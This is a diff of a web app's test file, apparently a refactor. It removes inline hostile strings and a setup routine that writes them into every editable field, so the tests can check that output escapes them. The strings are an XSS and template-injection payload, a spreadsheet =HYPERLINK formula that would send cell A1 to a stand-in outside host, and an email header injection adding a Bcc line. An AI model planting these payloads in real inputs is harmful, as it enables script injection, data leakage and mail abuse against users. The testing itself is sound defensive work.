@@ -1,153 +1,17 @@
-import { beforeAll, describe, expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { operationsOf } from '#kernel/contract/router.ts';
-import { makeTestAccount } from '#tests/support/accounts.ts';
 import { cellsOf, isFormula } from '#tests/support/csv.ts';
+import { FORMULA, MARK, MARKUP, writeEverywhere } from '#tests/support/hostile-words.ts';
 import { testHouse } from '#tests/support/house.ts';
 import { markupOf } from '#tests/support/markup.ts';
 import { open } from '#tests/support/page.ts';
-import { type Applied, apply, confirm, LOCAL_CHECKS, openProgram, requiring } from '#tests/support/program.ts';
+import { apply } from '#tests/support/program.ts';
 import { modules } from '../../src/app/modules.ts';
-import { openSourcePreset } from '../../src/modules/programs/presets/open-source.ts';
-
-/** In every hostile text, and nowhere in our own. */
-const MARK = 'zqx';
-/** Leaves an attribute, a text box, a title, a comment; brings an element, a handler, a script, an address that runs, and Liquid. */
-const MARKUP = `${MARK} '"></textarea></title>--><${MARK}-a ${MARK}=1 onclick=${MARK}()><script>${MARK}()</script><img src=${MARK} onerror=${MARK}()><a href="javascript:${MARK}()">a</a>{{ "${MARK}" | append: "-run" }}`;
-/** A spreadsheet would ask an address of the stranger's for it. */
-const FORMULA = `=HYPERLINK("//${MARK}.example/"&A1,"${MARK}")`;
-/** Would be a header of its own where lines of a header are not kept together. */
-const HEADER = `${MARK} a\r\nBcc: everybody@${MARK}.example\r\nX-Zqx: 1\r\n\r\nb`;
-const TEXTS = { markup: MARKUP, formula: FORMULA, header: HEADER } as const;
-const LINE_END = /[\r\n]+/g;
 
 /** Nobody listens there, so that what webhooks send fails at once. */
 const house = await testHouse({ allowPrivateHosts: 'localhost:9' });
-/** An owner whose name is hostile, too. */
-const { token } = await house.transact((c) =>
-  makeTestAccount(c, { role: 'owner', program: null, name: MARKUP.slice(0, 120) }),
-);
-const owner = house.client({ authorization: `Bearer ${token}` });
+const { owner, token, program, keys, draft } = await writeEverywhere(house);
 const operations = operationsOf(house.house);
-const applied: Applied[] = [];
-const keys: string[] = [];
-let program = '';
-let draft = '';
-
-/** What people of the organisation write themselves, as hostile as it lets them. */
-async function writeAsStaff(): Promise<void> {
-  await owner.access.updateOrganisation({
-    ...(await owner.access.organisation({})),
-    name: MARKUP.slice(0, 120),
-    privacyContact: MARKUP.slice(0, 200),
-  });
-  const { policy } = openSourcePreset;
-  const said = (words: string) => `${words} ${MARKUP}\n\n${FORMULA}`;
-  await owner.programs.publishPolicy({
-    program,
-    basedOn: (await owner.programs.getProgram({ program })).policyVersion,
-    policy: {
-      ...policy,
-      automatic: false,
-      undoMinutes: 0,
-      summary: said('Summary'),
-      benefit: { ...policy.benefit, words: said('Benefit') },
-      requirements: requiring(LOCAL_CHECKS).map((each) => ({ ...each, words: said(each.check) })),
-      statements: policy.statements.map((each) => ({ ...each, words: said(each.code) })),
-      agreement: { version: MARKUP.slice(0, 40), title: said('Title'), text: said('Text') },
-      privacy: { version: MARKUP.slice(0, 40), text: said('Privacy') },
-      reasons: policy.reasons.map((each) => ({ ...each, label: said('Label'), advice: said('Advice') })),
-    },
-  });
-}
-
-/** An application whose every free text is `text`, brought to an end of each kind, with words from both sides. */
-async function applyWith(text: string): Promise<void> {
-  const one = async (n: string, act: (id: string, key: string) => Promise<unknown>) => {
-    const namespaceUrl = `https://gitlab.com/group-${applied.length}/a`;
-    const each = await apply(house, `${applied.length}-${n}`, {
-      applicantName: text.slice(0, 200),
-      project: text.slice(0, 200),
-      purpose: text,
-      namespaceUrl,
-    });
-    const key = await confirm(house, each);
-    applied.push(each);
-    keys.push(key);
-    await house.work();
-    await act(each.id, key);
-    await house.work();
-  };
-  const staff = owner.programs;
-  const { stranger } = house;
-  await one('member', async (id, key) => {
-    await staff.askApplicant({ id, words: text });
-    await stranger.programs.answerQuestion({ key, body: text });
-    await stranger.programs.writeToTeam({ key, body: text });
-    await staff.writeToApplicant({ id, body: text });
-    await owner.work.addNote({ about: { kind: 'application', id }, body: text });
-    await owner.work.addTodo({ title: text.slice(0, 300), about: { kind: 'application', id } });
-    await staff.approveApplication({ id, words: text });
-    await house.work();
-    const { agreement } = await stranger.programs.application({ key });
-    await stranger.programs.acceptAgreement({ key, version: agreement?.version ?? '', signedName: text.slice(0, 200) });
-    await house.work();
-    await staff.confirmBooking({ id, reference: text.slice(0, 200) });
-  });
-  // The others show nothing that this one does not: the tables and headers of one are enough.
-  if (text !== MARKUP) return;
-  await one('refused', async (id) => {
-    const reason = (await staff.getProgram({ program })).policy.reasons[0]?.code ?? '';
-    await staff.refuseApplication({ id, reason, words: text });
-  });
-  await one('asked', (id) => staff.askApplicant({ id, words: text }));
-  await one('moved', (_id, key) =>
-    stranger.programs.changeAddress({ key, address: `moved-${keys.length}@example.org` }),
-  );
-}
-
-beforeAll(async () => {
-  program = await openProgram(house);
-  for (const [n, text] of Object.entries(TEXTS)) {
-    await owner.programs.addCoupons({
-      program,
-      sku: 'OSS-SAAS-1Y',
-      name: text.slice(0, 120),
-      csv: [1, 2].map((i) => `${n}-CODE-${i}`).join('\n'),
-    });
-    const mail = `invited-${n}@example.org`;
-    await owner.access.invite({ mail, name: text.replace(LINE_END, ' ').slice(0, 120), role: 'reviewer', program });
-    await owner.access.makeRole({ name: text.replace(LINE_END, ' ').slice(0, 50), permissions: ['applications.read'] });
-  }
-  const webhook = await owner.webhooks.addEndpoint({
-    address: `https://localhost:9/${MARK}`,
-    words: MARKUP.slice(0, 200),
-    kinds: null,
-    program: null,
-  });
-  await writeAsStaff();
-  for (const text of Object.values(TEXTS)) await applyWith(text);
-  const answers = Object.fromEntries(
-    ['applicantName', 'address', 'country', 'project', 'namespaceUrl', 'repositories', 'purpose', 'hosting'].map(
-      (name) => [name, MARKUP],
-    ),
-  );
-  ({ key: draft } = await house.stranger.programs.saveDraft({
-    program: 'open-source',
-    answers: { ...answers, statements: [MARKUP] },
-  }));
-  await house.stranger.programs.mailDraftLink({ key: draft, address: 'draft@example.org' });
-  for (const { address } of applied.slice(0, 3)) await house.stranger.programs.mailLostLink({ address });
-  await house.stranger.access.requestPasswordReset({ mail: (await owner.access.me({})).account?.mail ?? '' });
-  await owner.webhooks.sendTest({ id: webhook.id });
-  const { rows: people } = await owner.community.listPeople({});
-  await owner.community.mergePeople({
-    one: people[0]?.id ?? '',
-    other: people[1]?.id ?? '',
-    reason: MARKUP.slice(0, 200),
-  });
-  house.clock.advance({ minutes: 10 });
-  await house.work();
-}, 60_000);
 
 const decoded = (words: readonly string[]) => words.join('\n');
 
